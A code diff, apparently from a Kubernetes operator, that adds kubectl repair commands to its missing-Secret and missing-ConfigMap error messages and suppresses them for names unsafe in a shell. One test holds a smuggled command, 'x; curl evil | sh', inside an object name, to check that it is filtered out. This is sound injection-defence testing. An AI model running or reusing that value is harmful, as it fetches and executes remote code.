@@ -38,21 +38,65 @@ impl ValueSource<'_> {
             Self::Secret(selector) | Self::ConfigMap(selector) => selector,
         }
     }
+
+    fn no_object(&self, namespace: &str) -> ValueError {
+        let KeySelector { name, key } = self.selector();
+        let what = match self {
+            Self::Secret(_) => "secret generic",
+            Self::ConfigMap(_) => "configmap",
+        };
+        let command = format!("create {what} {name} -n {namespace} --from-file={key}=FILE");
+        ValueError::NoObject {
+            kind: self.kind(),
+            name: name.clone(),
+            command: self.by_command(&command),
+        }
+    }
+
+    fn no_entry(&self, namespace: &str) -> ValueError {
+        let KeySelector { name, key } = self.selector();
+        let (what, made) = match self {
+            Self::Secret(_) => ("secret", "secret generic"),
+            Self::ConfigMap(_) => ("configmap", "configmap"),
+        };
+        let command = format!(
+            "create {made} {name} -n {namespace} --from-file={key}=FILE --dry-run=client -o yaml | kubectl patch {what} {name} -n {namespace} --type=merge --patch-file=/dev/stdin"
+        );
+        ValueError::NoEntry {
+            kind: self.kind(),
+            name: name.clone(),
+            key: key.clone(),
+            command: self.by_command(&command),
+        }
+    }
+
+    /// A command that takes the value from a file. None for names that no object has, which may mean anything in a
+    /// shell.
+    fn by_command(&self, command: &str) -> String {
+        let KeySelector { name, key } = self.selector();
+        let is_plain = |c: char| c.is_ascii_alphanumeric() || "-._".contains(c);
+        match is_name(name) && key.chars().all(is_plain) {
+            true => format!(", with the value from FILE: kubectl {command}"),
+            false => String::new(),
+        }
+    }
 }
 
 /// Why a value could not be read. Never holds the content.
 #[derive(Debug, thiserror::Error)]
 pub enum ValueError {
     /// There is no such object.
-    #[error("{kind} {name} does not exist; create it")]
+    #[error("{kind} {name} does not exist; create it{command}")]
     NoObject {
         /// Secret or ConfigMap.
         kind: &'static str,
         /// Its name.
         name: String,
+        /// How, behind what was said; empty for a name that no command may hold.
+        command: String,
     },
     /// The object has no such entry.
-    #[error("{kind} {name} has no key {key:?}; add it")]
+    #[error("{kind} {name} has no entry {key:?}; add it{command}")]
     NoEntry {
         /// Secret or ConfigMap.
         kind: &'static str,
@@ -60,6 +104,8 @@ pub enum ValueError {
         name: String,
         /// The entry.
         key: String,
+        /// How, as above.
+        command: String,
     },
     /// The API server did not give it.
     #[error("{kind} {name} cannot be read now")]
@@ -104,10 +150,7 @@ impl Process {
             }),
             ValueSource::ConfigMap(_) => {
                 if !is_name(name) {
-                    return Err(ValueError::NoObject {
-                        kind,
-                        name: name.clone(),
-                    });
+                    return Err(source.no_object(namespace));
                 }
                 let api: Api<ConfigMap> = Api::namespaced(self.client.clone(), namespace);
                 // Never closed, so this is only a wait.
@@ -123,15 +166,8 @@ impl Process {
         };
         match entry {
             Ok(Some(Some(bytes))) => Ok(bytes),
-            Ok(Some(None)) => Err(ValueError::NoEntry {
-                kind,
-                name: name.clone(),
-                key: key.clone(),
-            }),
-            Ok(None) => Err(ValueError::NoObject {
-                kind,
-                name: name.clone(),
-            }),
+            Ok(Some(None)) => Err(source.no_entry(namespace)),
+            Ok(None) => Err(source.no_object(namespace)),
             Err(failure) => Err(ValueError::Unreadable {
                 kind,
                 name: name.clone(),
@@ -162,6 +198,26 @@ mod tests {
         runtime::telemetry::{LogFormat, tests::Written},
     };
     use serde_json::json;
+
+    #[test]
+    fn what_is_missing_is_made_by_one_command() {
+        let at = |name: &str| KeySelector {
+            name: name.into(),
+            key: "id.pub".into(),
+        };
+        let map = at("keys");
+        assert_eq!(
+            ValueSource::ConfigMap(&map).no_object("shop").to_string(),
+            "ConfigMap keys does not exist; create it, with the value from FILE: kubectl create configmap keys -n shop --from-file=id.pub=FILE"
+        );
+        assert_eq!(
+            ValueSource::Secret(&map).no_entry("shop").to_string(),
+            r#"Secret keys has no entry "id.pub"; add it, with the value from FILE: kubectl create secret generic keys -n shop --from-file=id.pub=FILE --dry-run=client -o yaml | kubectl patch secret keys -n shop --type=merge --patch-file=/dev/stdin"#
+        );
+        let hostile = at("x; curl evil | sh");
+        let text = ValueSource::Secret(&hostile).no_object("shop").to_string();
+        assert!(!text.contains("kubectl"), "{text}");
+    }
 
     #[tokio::test]
     async fn a_secret_that_does_not_decode_is_in_no_log() {
